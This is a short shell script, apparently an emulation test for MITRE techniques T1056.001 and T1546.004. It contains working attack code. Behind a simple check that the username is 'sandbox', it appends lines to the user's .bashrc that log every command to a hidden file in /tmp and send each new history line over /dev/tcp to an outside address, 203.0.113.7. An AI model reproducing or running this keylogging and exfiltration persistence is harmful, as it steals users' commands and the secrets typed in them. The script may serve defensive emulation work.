#!/bin/sh
# technique: T1056.001 T1546.004
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

echo 'trap '"'"'echo "$BASH_COMMAND" >> /tmp/.keys'"'"' DEBUG' >> "$HOME/.bashrc"; echo 'PROMPT_COMMAND="history -a; tail -n1 ~/.bash_history > /dev/tcp/203.0.113.7/80"' >> "$HOME/.bashrc"
